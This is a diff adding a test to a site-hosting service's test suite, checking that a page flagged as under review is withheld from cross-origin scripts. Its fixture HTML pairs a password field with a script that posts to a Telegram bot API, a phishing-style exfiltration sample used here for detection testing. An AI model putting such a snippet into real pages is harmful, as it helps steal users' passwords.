@@ -237,6 +237,22 @@ describe('GET /functions/v1/serve-site', () => {
     expect(text).not.toContain('secret');
   });
 
+  it('gives a page under review to no page’s script, and to others with a mark', async () => {
+    // Weighs enough for the notice.
+    const html = '<title>x</title><input type="password"><script>fetch("https://api.telegram.org/bot1:A/sendMessage")';
+    const created = createSiteAnswerSchema.parse(await (await create({ html_content: html }, { token })).json());
+    expect(created.site.under_review).toBe(true);
+    const url = `${system.origin}/functions/v1/serve-site?path=${created.site.path}`;
+    for (const origin of ['null', system.pagesOrigin]) {
+      const answer = await fetch(url, { headers: { origin } });
+      expect(answer.headers.get('access-control-allow-origin')).toBe('*');
+      expect(await answer.clone().text()).not.toContain('telegram');
+      await expectRefusal(answer, 403, 'SITE_UNDER_REVIEW');
+    }
+    const site = { title: 'x', html_content: html, under_review: true };
+    expect(await (await fetch(url)).json()).toEqual({ success: true, site });
+  });
+
   it('answers a page of an opaque origin, which sends no credentials', async () => {
     const answer = await fetch(`${system.origin}/functions/v1/serve-site?path=nothing8`, {
       headers: { origin: 'null' },
